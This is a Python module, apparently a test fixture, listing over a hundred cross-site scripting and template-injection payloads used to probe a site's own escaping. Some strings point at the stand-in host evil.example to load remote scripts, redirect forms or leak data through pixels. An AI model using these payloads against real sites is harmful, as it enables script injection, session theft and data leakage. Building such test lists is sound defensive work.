"""Texts that try to become scripts, styles, requests or markup on a page: our own, by the ways that there are."""

from __future__ import annotations

_CALL = "hit()"
_TAGS = (
    "<script>{}</script>", "<ScRiPt>{}</sCrIpT>", "<script src=//evil.example/x.js></script>", "<script/x>{}</script>",
    "<script\n>{}</script\n>", "<script type=module>{}</script>", "</script><script>{}</script>",
    "<svg><script>{}</script></svg>", "<svg><script href=data:,{} /></svg>", "<math><mtext><script>{}</script>",
    "<noscript><p title='</noscript><script>{}</script>'>", "<textarea></textarea><script>{}</script>",
    "</title><script>{}</script>", "</style><script>{}</script>", "--><script>{}</script>", "]]><script>{}</script>",
    "<template><script>{}</script></template>", "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<object data=data:text/html,<script>{}</script>>", "<embed src=data:text/html,<script>{}</script>>",
)  # fmt: skip
_EVENTS = (
    ("img src=x", "onerror"), ("img src=/static/icon.svg", "onload"), ("svg", "onload"), ("body", "onload"),
    ("body", "onpageshow"), ("iframe", "onload"), ("input autofocus", "onfocus"), ("select autofocus", "onfocus"),
    ("textarea autofocus", "onfocus"), ("details open", "ontoggle"), ("video src=x", "onerror"),
    ("audio src=x", "onerror"), ("video><source", "onerror"), ("marquee", "onstart"), ("p", "onmouseover"),
    ("p style=animation-name:x", "onanimationstart"), ("a href=#", "onclick"), ("button", "onclick"),
    ("form><button", "onclick"), ("object data=x", "onerror"),
    ("link rel=stylesheet href=x", "onerror"),
    ("script src=x", "onerror"), ("style", "onload"), ("track", "onerror"),
    ("div contenteditable tabindex=1", "onfocus"),
    ("svg><animate attributeName=x dur=1s", "onbegin"), ("svg><set attributeName=x", "onend"),
    ("xss", "onpointerenter"),
    ("p popover", "onbeforetoggle"), ("input type=image src=x", "onerror"),
)  # fmt: skip
_QUOTES = (
    '"><script>{}</script>', "'><script>{}</script>", '" onmouseover={} x="', "' onfocus={} autofocus x='",
    '" autofocus onfocus={} "', "`><script>{}</script>", '"/><svg onload={}>', "'/><img src=x onerror={}>",
    '" style="background:url(//evil.example/x)" x="', "' style='x:expression({})'", '"><base href=//evil.example/>',
    '"><meta http-equiv=refresh content="0;url=javascript:{}">', '"><link rel=prefetch href=//evil.example/>',
    '"><form action=//evil.example/><input name=q>', '"><a href=javascript:{}>x</a>', "\\\"><img src=x onerror={}>",
    '"\u2028<script>{}</script>', '"\x0b onload={} ', "&quot;><script>{}</script>", "&#34;><script>{}</script>",
)  # fmt: skip
_ADDRESSES = (
    "javascript:{}", "JaVaScRiPt:{}", "java\tscript:{}", "java\nscript:{}", " javascript:{}", "\x01javascript:{}",
    "javascript://evil.example/%0a{}", "data:text/html,<script>{}</script>", "data:text/html;base64,PHNjcmlwdD4=",
    "vbscript:{}", "view-source:javascript:{}", "//evil.example/x", "\\\\evil.example\\x", "https:evil.example",
    "blob:{}", "filesystem:{}", "jar:javascript:{}", "livescript:{}", "feed:javascript:{}", "about:blank#{}",
)  # fmt: skip
_TEMPLATES = (
    "{{{{ {} }}}}", "{{% {} %}}", "${{{}}}", "#{{{}}}", "<%= {} %>", "{{{{constructor.constructor('{}')()}}}}",
    "{{# {} #}}", "[[{}]]", "@{{{}}}", "%7B%7B{}%7D%7D", "{{{{ ''.__class__.__mro__ }}}}", "{{{{ config }}}}",
)  # fmt: skip
_STYLES = (
    "<style>*{{background:url(//evil.example/{})}}</style>", "<p style=background:url(//evil.example/x)>{}",
    "<link rel=stylesheet href=//evil.example/x.css>{}", "}} body {{ background: url(//evil.example/x) }} /*{}",
    "<svg><style>@import'//evil.example/x';</style>{}", "*/ body{{display:none}} /*{}",
    "\\3c script\\3e {}", "a[href^='{}']{{background:url(//evil.example/x)}}",
)  # fmt: skip
_ODD = (
    "\u202e<script>{}</script>", "\u200b<script>{}</script>", "<scr\x7fipt>{}</scr\x7fipt>", "＜script＞{}＜/script＞",
    "<script>{}", "<<script>{}//<</script>", "<img src=x onerror={}", "<a href='javascript:{}", "+ADw-script+AD4-{}",
    "%3Cscript%3E{}%3C/script%3E", "&lt;script&gt;{}&lt;/script&gt;", "&#x3c;script&#x3e;{}", "<!--<script>{}-->",
    "<!--[if IE]><script>{}</script><![endif]-->", "<?xml version='1.0'?><script>{}</script>", "<![CDATA[<script>{}]]>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{}</x:script>", "<img src='1' srcset='x' onerror={}>",
    "<form id=x></form><button form=x formaction=javascript:{}>", "<isindex type=image src=1 onerror={}>",
    "<svg><a xlink:href=javascript:{}><text>x</text></a></svg>", "<svg><use href=data:image/svg+xml,{}#x /></svg>",
    "<svg><foreignObject><iframe srcdoc={}></iframe></foreignObject></svg>", "<math href=javascript:{}>x</math>",
    "<map><area href=javascript:{}></map>", "<base target=_blank href=//evil.example/>{}", "<portal src=javascript:{}>",
    "<img src=//evil.example/pixel.gif?{}>", "<video poster=//evil.example/x>{}", "<input pattern=x form=x>{}",
    "<dialog open><script>{}</script>", "<frameset onload={}>", "<keygen autofocus onfocus={}>",
    "<img ping=//evil.example/ src=x>{}", "<a ping=//evil.example/ href=#>{}</a>", "<bgsound src=javascript:{}>",
    "<applet code=javascript:{}>", "<img src=x:x onwheel={}>", "<p style=-moz-binding:url(//evil.example/{})>",
    "<layer src=//evil.example/x>{}", "<plaintext>{}", "<xmp><script>{}</script>",
)  # fmt: skip
PAYLOADS = tuple(
    dict.fromkeys(
        [
            *(one.format(_CALL) for one in (*_TAGS, *_QUOTES, *_ADDRESSES, *_TEMPLATES, *_STYLES, *_ODD)),
            *(f"<{tag} {event}={_CALL}>" for tag, event in _EVENTS),
        ]
    )
)
